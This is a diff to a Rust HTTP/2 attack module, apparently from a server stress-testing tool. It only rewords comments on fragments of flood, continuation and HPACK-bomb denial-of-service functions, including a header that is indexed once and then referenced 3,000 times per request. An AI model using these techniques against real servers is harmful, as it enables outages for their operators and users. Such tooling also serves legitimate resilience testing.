@@ -19,10 +19,10 @@ use crate::hostile::{
 /// Frames that are written at once.
 const FRAMES: u32 = 10;
 
-/// After so many parts a connection begins anew: streams have numbers of 31 bits.
+/// A connection is replaced after this many parts, because stream ids have 31 bits.
 const PARTS: u32 = 50_000_000;
 
-/// Sends `begin` and then parts, each of so many acts, over a new connection when the server has ended one.
+/// Sends `begin` and then parts, each of which counts as this many acts. Reconnects when the server hangs up.
 pub(crate) async fn flood(
     attacker: Rc<Attacker>,
     reads: bool,
@@ -36,7 +36,7 @@ pub(crate) async fn flood(
         let reader = reads.then(|| spawn_local(throw_away(reader)).abort_handle());
         let mut next = begin.clone();
         for n in 0..PARTS {
-            // TLS keeps what is not flushed.
+            // TLS buffers what is not flushed.
             if writer.write_all(&next).await.is_err() || writer.flush().await.is_err() {
                 attacker.was_ended();
                 break;
@@ -53,10 +53,10 @@ async fn throw_away(mut from: impl AsyncRead + Unpin) {
     while from.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
 }
 
-/// As much as it takes, of each answer.
+/// The window for each answer.
 const WINDOW: u32 = 1 << 16;
 
-/// The numbers of the streams of a part.
+/// The stream ids of a part.
 fn streams(n: u32) -> impl Iterator<Item = u32> {
     (0..FRAMES).map(move |m| stream(FRAMES * n + m))
 }
@@ -86,7 +86,7 @@ pub(crate) async fn continuation(attacker: Rc<Attacker>) {
 }
 
 pub(crate) async fn hpack_bomb(attacker: Rc<Attacker>) {
-    // A header of 4,000 bytes is remembered once, and then named by a byte, 3,000 times in each request.
+    // A header of 4,000 bytes is indexed once, and then referenced by one byte, 3,000 times in each request.
     let mut once = call_headers(GET_CAPACITY);
     once.extend_from_slice(&[0x40, 1, b'x']);
     // 4,000 in HPACK: 127 and 3,873 more.
